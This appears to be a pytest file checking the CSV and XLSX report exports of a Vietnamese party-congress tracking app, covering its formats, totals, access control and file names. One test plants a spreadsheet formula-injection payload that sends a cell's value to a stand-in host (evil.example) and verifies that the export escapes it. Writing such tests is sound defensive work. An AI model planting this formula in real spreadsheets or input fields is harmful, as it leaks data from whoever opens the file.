"""XLSX and CSV exports carry the same numbers as the summary and the page."""
import csv
import io
import re
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import NOW
from tests.reports.reports_helpers import three_units
from tracker.extensions import db
from tracker.models import Campaign
from tracker.services.campaigns import require_campaign


@pytest.fixture
def client(campaign, make_user, login, frozen):
    with frozen(NOW):
        three_units()
        db.session.scalar(select(Campaign)).rounding = "truncate"
        db.session.commit()
        yield login(make_user("v@x.vn", "viewer"))


def test_csv_has_units_and_totals(client):
    r = client.get("/reports/export.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert "attachment" in r.headers["Content-Disposition"]
    raw = r.get_data()
    assert raw.startswith("\ufeff".encode())  # the BOM: Excel reads UTF-8
    text = raw.decode("utf-8-sig")
    # a Vietnamese Excel splits on ";" and reads "," as the decimal mark (README: CSV)
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    head = rows[0]
    assert len(head) > 30 and all(len(row) == len(head) for row in rows)
    assert head[0] == "Mã" and "Tái cử" in head
    assert [r[0] for r in rows[1:]] == ["X01", "X02", "X03", "Tổng cộng"]
    total = dict(zip(head, rows[-1], strict=False))
    assert total["Cấp ủy viên được bầu"] == "24"
    assert total["Tái cử"] == "19" and total["Tái cử %"] == "79,16"      # 19/24 = 79.1666… truncated
    assert total["Nữ %"] == "20,83"                                      # 5/24 = 20.8333…
    assert total["Tổ chức đại hội"] == "2"                               # the totals count the yes cells
    assert float(total["Nữ %"].replace(",", ".")) == 20.83 and int(total["Đảng viên"]) == 350
    x01 = dict(zip(head, rows[1], strict=False))
    assert x01["Số dư %"] == "13,33" and x01["Ngày tổ chức đại hội"] == "30/03/2030"
    assert x01["Tổ chức đại hội"] == "Có" and x01["Đại hội điểm"] == "Không"
    x03 = dict(zip(head, rows[3], strict=False))
    assert x03["Tổ chức đại hội"] == "Không" and x03["Cấp ủy viên được bầu"] == ""


def test_an_english_csv_keeps_commas_and_points(app):
    from tracker.reports.export import CsvStyle

    en, vi = CsvStyle("en"), CsvStyle("vi")
    assert (en.delimiter, en.value(79.16, "pct")) == (",", "79.16")
    assert (vi.delimiter, vi.value(79.16, "pct")) == (";", "79,16")


def test_xlsx_has_summary_units_and_kinds(client):
    r = client.get("/reports/export.xlsx?group=G1")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.get_data()))
    assert wb.sheetnames == ["Tổng hợp", "Đơn vị", "Theo loại"]
    summary = [c.value for c in wb["Tổng hợp"]["A"] if c.value]
    assert any(str(v).startswith("Đến ngày 01/04/2030, 1/1 đơn vị đã tổ chức xong đại hội") for v in summary)
    units = list(wb["Đơn vị"].iter_rows(values_only=True))
    head = units[0]
    assert [u[0] for u in units[1:]] == ["X01", "Tổng cộng"]
    total = dict(zip(head, units[-1], strict=False))
    assert total["Tái cử"] == 12 and total["Tái cử %"] == 0.8 and total["Nữ %"] == 0.2
    sheet = wb["Đơn vị"]
    col = {h: i + 1 for i, h in enumerate(head)}
    assert sheet.cell(row=2, column=col["Tái cử %"]).number_format == "0.00%"
    held_on = sheet.cell(row=2, column=col["Ngày tổ chức đại hội"])
    assert held_on.is_date and held_on.value.date() == date(2030, 3, 30) and held_on.number_format == "dd/mm/yyyy"
    assert sheet.cell(row=2, column=col["Tổ chức đại hội"]).value == "Có"
    assert sheet.cell(row=2, column=col["Đại hội điểm"]).value == "Không"
    assert sheet.cell(row=3, column=col["Cấp ủy viên được bầu"]).number_format == "#,##0"   # the totals
    assert sheet.freeze_panes == "C2" and wb["Theo loại"].freeze_panes == "B2"
    assert sheet.column_dimensions["B"].width == 32 and sheet.column_dimensions["A"].width == 14


def test_the_per_kind_sheet_has_every_column_of_the_page(client):
    wb = load_workbook(io.BytesIO(client.get("/reports/export.xlsx").get_data()))
    rows = list(wb["Theo loại"].iter_rows(values_only=True))
    head = rows[0]
    page = client.get("/reports").get_data(as_text=True)
    start = page.index('id="by-kind"')
    thead = page[page.index("<thead>", start):page.index("</thead>", start)]
    shown = [h.strip() for h in re.findall(r"<th[^>]*>([^<]+)</th>", thead)]
    assert len(shown) == 16 and all(h in head for h in shown), [h for h in shown if h not in head]
    total = dict(zip(head, rows[-1], strict=False))
    assert total["Loại"] == "Tổng cộng" and total["Số hội nghị"] == 5 and total["Lượt người dự"] == 260
    assert total["Đảng viên được quán triệt"] == 199 and total["Ủy viên Ban Thường vụ"] == 0
    assert total["% đảng viên được quán triệt"] == 0.5685       # 199/350, truncated to two decimals


def test_exports_need_sign_in_and_reject_unknown_group(client, app):
    assert app.test_client().get("/reports/export.xlsx").status_code == 302
    assert client.get("/reports/export.csv?group=NOPE").status_code == 404


def test_a_unit_name_is_never_a_formula_in_the_exports(client):
    from tracker.models import Unit

    unit = db.session.scalar(select(Unit).where(Unit.code == "X03"))
    unit.name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    db.session.commit()
    text = client.get("/reports/export.csv").get_data().decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text), delimiter=";") if r[0] == "X03")
    assert row[1].startswith("'=")
    wb = load_workbook(io.BytesIO(client.get("/reports/export.xlsx").get_data()))
    cell = next(r[1] for r in wb["Đơn vị"].iter_rows() if r[0].value == "X03")
    assert cell.data_type == "s" and cell.value.startswith("'=")


def test_a_group_code_with_vietnamese_letters_gives_a_safe_file_name(client, make_group, make_unit):
    from tracker.models import WorkingGroup
    # new codes are ASCII (tracker/codes.py); a code saved before that rule still exports safely
    db.session.add(WorkingGroup(code="TổA", name="Tổ A", campaign_id=require_campaign().id))
    db.session.commit()
    r = client.get("/reports/export.csv?group=TổA")
    assert r.status_code == 200
    header = r.headers["Content-Disposition"]
    header.encode("latin-1")  # a header must be encodable, whatever the code
    assert "filename*=UTF-8''" in header and ".csv" in header
